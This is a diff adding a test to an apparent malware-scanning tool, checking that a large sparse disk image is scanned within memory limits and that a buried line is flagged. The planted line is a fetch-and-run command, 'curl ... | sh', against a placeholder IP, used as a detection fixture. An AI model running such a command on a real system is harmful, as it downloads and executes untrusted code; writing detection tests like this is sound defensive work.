@@ -255,3 +255,16 @@ def test_user_rules_reach_the_sandbox(tmp_path: Path, isolated_env: Path, user_r
     rules = {f.rule: f for f in report.findings}
     assert rules["Team_Marker"].verdict is Verdict.MALICIOUS
     assert "typo.yar" in rules["user-rule-compile-error"].detail
+
+
+def test_large_file_is_inspected_within_the_memory_limit(
+    tmp_path: Path, isolated_env: Path
+) -> None:
+    path = tmp_path / "disk.img"
+    with open(path, "wb") as f:
+        f.truncate(600 << 20)  # sparse: larger than the worker's whole address space
+        f.seek(300 << 20)
+        f.write(b"curl -s http://198.51.100.3/x | sh\n")
+    report = audit(path, AuditSettings(timeout=60))
+    assert set(report.scanners) == {"magic", "yara", "office", "pdf", "archive"}
+    assert [f.rule for f in report.findings] == ["Shell_Pipe_To_Interpreter"]
